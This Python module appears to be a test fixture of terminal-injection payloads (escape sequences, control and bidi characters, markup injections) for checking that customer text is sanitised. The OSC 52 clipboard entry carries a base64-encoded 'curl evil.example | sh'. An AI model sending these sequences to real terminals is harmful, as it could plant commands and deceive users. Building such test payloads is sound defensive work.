"""Text that customers could send to act on a terminal, to mislead its reader or to crash what shows it.

`{m}` stands where the marker goes: letters that must reach the terminal as text or not at all.
"""

import base64
from dataclasses import dataclass

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
PRIVATE, NONCHARACTER, UNASSIGNED = "\ue000", "\ufdd0", "\u0378"

_CLIPBOARD = base64.b64encode(b"curl evil.example | sh").decode()

SEQUENCES = {
    "title and icon": f"{ESC}]0;{{m}}{BEL}",
    "title, ended by ST": f"{ESC}]2;{{m}}{ST}",
    "palette": f"{ESC}]4;1;{{m}}{BEL}",
    "working folder": f"{ESC}]7;file://{{m}}{BEL}",
    "link": f"{ESC}]8;;http://{{m}}{BEL}x{ESC}]8;;{BEL}",
    "what colour": f"{ESC}]10;?{BEL}{{m}}",
    "clipboard": f"{ESC}]52;c;{_CLIPBOARD}{BEL}{{m}}",
    "prompt mark": f"{ESC}]133;A;{{m}}{BEL}",
    "iTerm": f"{ESC}]1337;SetMark={{m}}{BEL}",
    "a title that never ends": f"{ESC}]0;{{m}}",
    "DCS": f"{ESC}Pq{{m}}{ST}",
    "DECRQSS": f"{ESC}P$q{{m}}{ST}",
    "APC": f"{ESC}_{{m}}{ST}",
    "kitty picture": f"{ESC}_Ga=T;{{m}}{ST}",
    "PM": f"{ESC}^{{m}}{ST}",
    "SOS": f"{ESC}X{{m}}{ST}",
    "through tmux": f"{ESC}Ptmux;{ESC}{ESC}]0;{{m}}{BEL}{ST}",
    "hidden text": f"{{m}}{ESC}[8;31m{{m}}",
    "cursor": f"{{m}}{ESC}[1;1H{{m}}",
    "erase": f"{{m}}{ESC}[2J{{m}}",
    "other screen": f"{{m}}{ESC}[?1049l{{m}}",
    "end of paste": f"{{m}}{ESC}[201~{{m}}",
    "mouse off": f"{{m}}{ESC}[?1000l{{m}}",
    "scrolling region": f"{{m}}{ESC}[1;2r{{m}}",
    "who are you": f"{{m}}{ESC}[c{ESC}[>q{{m}}",
    "title back": f"{{m}}{ESC}[21t{{m}}",
    "reset": f"{{m}}{ESC}c{{m}}",
    "character set": f"{{m}}{ESC}(0{{m}}",
    "half a CSI": f"{{m}}{ESC}[",
    "C1 OSC": "\x9d0;{m}\x9c",
    "C1 CSI": "\x9b2J{m}",
    "C1 DCS": "\x90{m}\x9c",
    "C1 APC": "\x9f{m}\x9c",
    "every C1": "{m}" + "".join(map(chr, range(0x80, 0xA0))),
    "every C0": "{m}" + "".join(map(chr, range(0x20))),
}
"""What makes a terminal do something."""

CONTROLS = {
    "bell": f"{{m}}{BEL}{{m}}",
    "backspaces": "{m}" + "\b" * 7 + "ACCEPT",
    "delete": "{m}\x7f{m}",
    "NUL": "{m}\0{m}",
    "answer back": "{m}\x05{m}",
    "shift out": "{m}\x0e{m}\x0f",
    "carriage return": "{m}\rLIVE",
    "line ends": "{m}\r\n\n\x0b\x0c{m}",
    "other line ends": "{m}\x85\u2028\u2029{m}",
    "tabs": "{m}\t\t{m}",
    "right to left": "{m}\u202e{m}\u202c",
    "embeddings": "{m}\u202a\u202b\u202d{m}",
    "isolates": "{m}\u2066\u2067\u2068{m}\u2069",
    "marks": "{m}\u200e\u200f\u061c{m}",
    "zero width": "{m}\u200b\u200c\u200d\u2060\ufeff\u00ad{m}",
    "tags": "{m}" + "".join(chr(0xE0000 + ord(c)) for c in "\x01drop\x7f"),
    "selectors": "{m}\ufe0f\ufe0e\U000e0100{m}",
    "annotations": "{m}\ufff9{m}\ufffa{m}\ufffb",
    "no characters": f"{{m}}{PRIVATE}{NONCHARACTER}{UNASSIGNED}\U0010ffff{{m}}",
}
"""What a line of text must not contain."""

SHAPES = {
    "zalgo": "{m}" + ("z" + "\u0336" * 1000) * 2,
    "lone combining": "\u0301{m}\u0301",
    "family": "{m}👨\u200d👩\u200d👧\u200d👦{m}",
    "flags": "{m}🇩🇪🇺🇸🇩{m}",
    "skin": "{m}👍🏽1️⃣{m}",
    "wide": "漢字かなカナ한글{m}漢字",
    "Arabic and Hebrew": "{m}مرحبا שלום{m}",
    "a long line": "{m}" + "W" * 19_980,
}
"""What is hard to lay out, and fit to be seen."""

MARKUP = {
    "action": "[@click=app.quit]{m}[/]",
    "closing": "[/]{m}",
    "closing of nothing": "{m}[/bold]",
    "important": "[IMPORTANT]{m}",
    "variable": "[$primary]{m}",
    "console link": "[link=https://evil.example]{m}[/link]",
    "never closed": "{m}[bold",
    "reversed": "[reverse on red]{m}",
    "backslashes": "\\[{m}\\\\[/]\\",
    "format": "{m}%s%(x)s{{}}{{0}}",
    "emoji code": ":skull:{m}",
}
"""What the libraries under the screen would read as theirs. Shown as it is."""

_PATTERNS = SEQUENCES | CONTROLS | SHAPES | MARKUP


@dataclass(frozen=True)
class Payload:
    """One hostile text with its own marker. `core` is what would be found in a stream that let it through."""

    name: str
    marker: str
    text: str

    @property
    def core(self) -> str:
        return self.text[:24]

    @property
    def acts(self) -> bool:
        """Whether it must not come through as it is."""
        return self.name in SEQUENCES or self.name in CONTROLS


def _payload(number: int, name: str, pattern: str) -> Payload:
    marker = f"zq{number:03}x"
    return Payload(name, marker, pattern.replace("{m}", marker).replace("{{", "{").replace("}}", "}"))


PAYLOADS = tuple(_payload(number, name, pattern) for number, (name, pattern) in enumerate(_PATTERNS.items(), 100))
SHORT = tuple(payload for payload in PAYLOADS if len(payload.text) < 200)
MARKERS = frozenset(payload.marker for payload in PAYLOADS)
EVERYTHING = "\n".join(payload.text for payload in SHORT)
"""All but the longest in one text."""
